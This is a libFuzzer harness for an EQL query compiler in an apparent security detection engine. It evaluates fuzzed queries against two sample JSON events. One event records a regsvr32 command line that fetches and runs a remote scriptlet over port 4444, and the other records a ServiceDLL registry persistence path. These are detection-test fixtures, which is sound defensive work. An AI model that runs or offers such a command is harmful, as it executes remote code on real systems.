// libFuzzer target: EQL text through the lexer, parser, analyzer and
// compiler; what compiles is evaluated against a few documents, and errors
// are rendered with their caret.
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

#include "core/arena.h"
#include "core/field_registry.h"
#include "eql/compiler.h"
#include "ingest/event_reader.h"

using namespace vigil;

namespace {

const char* const kDocuments[] = {
    R"({"@timestamp":"2024-01-01T00:00:00Z","event":{"category":["process"],"type":["start"]},"process":{"name":"regsvr32.exe","pid":42,"args":["/s","/i:http://x/a.sct","scrobj.dll"],"command_line":"regsvr32 /s /i:http://x/a.sct scrobj.dll"},"destination":{"ip":"10.1.2.3","port":4444}})",
    R"({"event":{"category":"registry"},"registry":{"path":"HKLM\\SYSTEM\\ControlSet001\\Services\\x\\ServiceDLL","data":{"strings":["C:\\Users\\a\\x.dll"]}},"a":null,"b":[1,2.5,true,"x"],"c":{"d":"e"}})",
};

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  const std::string text(reinterpret_cast<const char*>(data), size);
  FieldRegistry fields;
  auto compiled = eql::compile_query(text, fields);
  if (!compiled) {
    if (compiled.error().pos.offset > text.size()) __builtin_trap();  // errors point inside (or just past) the text
    (void)format_error(compiled.error(), "<fuzz>", text);
    return 0;
  }
  EventReader reader(fields);
  Arena arena;
  std::string reason;
  for (const char* doc : kDocuments) {
    Event event;
    if (!reader.decode_one(doc, event, arena, reason)) continue;
    eql::EvalContext ctx;
    (void)eql::matches(*compiled->program, event, ctx);
  }
  return 0;
}
